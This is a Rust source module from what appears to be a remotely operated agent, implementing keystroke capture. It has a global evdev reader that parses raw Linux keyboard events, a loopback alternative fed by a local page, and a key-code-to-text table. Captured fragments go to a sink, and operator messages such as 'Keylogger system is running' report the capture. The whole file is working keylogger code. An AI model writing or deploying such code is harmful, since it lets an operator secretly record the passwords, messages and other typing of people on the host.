//! Physical key-capture sources.
//!
//! A source is started once for the whole agent and feeds formatted key
//! fragments into the sink it is given. The strategy is picked at startup.

use std::path::{Path, PathBuf};

use parking_lot::Mutex;
use tokio::io::AsyncReadExt;
use tokio::sync::mpsc::UnboundedSender;
use tokio::task::JoinHandle;
use tracing::{debug, info, warn};

use crate::media::CaptureError;

pub type KeySink = UnboundedSender<String>;

pub trait KeySource: Send + Sync {
    fn start(&self, sink: KeySink) -> Result<(), CaptureError>;
    fn stop(&self);
    /// Operator-facing description of how keys are captured.
    fn describe(&self) -> &'static str;
}

/// Pick the capture strategy for this host.
pub fn select_key_source(device: Option<&Path>) -> Box<dyn KeySource> {
    match device {
        Some(path) if cfg!(target_os = "linux") => {
            info!(target: "keylog", "key capture via evdev device {}", path.display());
            Box::new(EvdevKeySource::new(path))
        }
        _ => {
            info!(target: "keylog", "key capture via loopback submissions");
            Box::new(LoopbackKeySource::default())
        }
    }
}

/// Passive source: fragments arrive as `SubmitCapturedKey` commands from a page
/// running on the agent host and are relayed by the dispatcher directly.
#[derive(Default)]
pub struct LoopbackKeySource {
    running: Mutex<bool>,
}

impl LoopbackKeySource {
    pub fn is_running(&self) -> bool { *self.running.lock() }
}

impl KeySource for LoopbackKeySource {
    fn start(&self, _sink: KeySink) -> Result<(), CaptureError> {
        *self.running.lock() = true;
        Ok(())
    }

    fn stop(&self) { *self.running.lock() = false; }

    fn describe(&self) -> &'static str {
        "Key logging armed. On the agent machine, keys are captured by the local capture page (the page must be focused)."
    }
}

/// Linux `struct input_event`: timeval, u16 type, u16 code, i32 value.
#[cfg(target_pointer_width = "64")]
const INPUT_EVENT_SIZE: usize = 24;
#[cfg(not(target_pointer_width = "64"))]
const INPUT_EVENT_SIZE: usize = 16;

const EV_KEY: u16 = 1;

/// Global keyboard capture from an evdev device node.
pub struct EvdevKeySource {
    path: PathBuf,
    reader: Mutex<Option<JoinHandle<()>>>,
}

impl EvdevKeySource {
    pub fn new(path: impl Into<PathBuf>) -> Self { Self { path: path.into(), reader: Mutex::new(None) } }
}

impl KeySource for EvdevKeySource {
    fn start(&self, sink: KeySink) -> Result<(), CaptureError> {
        let mut reader = self.reader.lock();
        if reader.is_some() { return Ok(()); }
        let file = std::fs::File::open(&self.path)
            .map_err(|e| CaptureError::Unavailable(format!("{}: {}", self.path.display(), e)))?;
        let mut file = tokio::fs::File::from_std(file);
        *reader = Some(tokio::spawn(async move {
            let mut rec = [0u8; INPUT_EVENT_SIZE];
            loop {
                if let Err(e) = file.read_exact(&mut rec).await {
                    warn!(target: "keylog", "evdev read stopped: {}", e);
                    break;
                }
                let off = INPUT_EVENT_SIZE - 8;
                let kind = u16::from_le_bytes([rec[off], rec[off + 1]]);
                let code = u16::from_le_bytes([rec[off + 2], rec[off + 3]]);
                let value = i32::from_le_bytes([rec[off + 4], rec[off + 5], rec[off + 6], rec[off + 7]]);
                // 1 = press, 2 = autorepeat
                if kind != EV_KEY || value == 0 { continue; }
                if let Some(text) = format_key(code) {
                    if sink.send(text.to_string()).is_err() { break; }
                }
            }
        }));
        debug!(target: "keylog", "evdev reader started");
        Ok(())
    }

    fn stop(&self) {
        if let Some(task) = self.reader.lock().take() {
            task.abort();
            debug!(target: "keylog", "evdev reader stopped");
        }
    }

    fn describe(&self) -> &'static str { "Keylogger system is running." }
}

/// Text for a Linux key code; modifiers and control keys use `{NAME}` markers.
pub fn format_key(code: u16) -> Option<&'static str> {
    const DIGITS: [&str; 10] = ["1", "2", "3", "4", "5", "6", "7", "8", "9", "0"];
    const TOP_ROW: [&str; 10] = ["q", "w", "e", "r", "t", "y", "u", "i", "o", "p"];
    const HOME_ROW: [&str; 9] = ["a", "s", "d", "f", "g", "h", "j", "k", "l"];
    const BOTTOM_ROW: [&str; 7] = ["z", "x", "c", "v", "b", "n", "m"];
    let s = match code {
        1 => "{ESC}",
        2..=11 => DIGITS[(code - 2) as usize],
        12 => "-",
        13 => "=",
        14 => "{BACK}",
        15 => "{TAB}",
        16..=25 => TOP_ROW[(code - 16) as usize],
        26 => "[",
        27 => "]",
        28 | 96 => "{ENTER}",
        29 | 97 => "{CTRL}",
        30..=38 => HOME_ROW[(code - 30) as usize],
        39 => ";",
        40 => "'",
        41 => "`",
        42 | 54 => "{SHIFT}",
        43 => "\\",
        44..=50 => BOTTOM_ROW[(code - 44) as usize],
        51 => ",",
        52 => ".",
        53 => "/",
        56 | 100 => "{ALT}",
        57 => " ",
        58 => "{CAPS}",
        125 | 126 => "{CMD}",
        _ => return None,
    };
    Some(s)
}
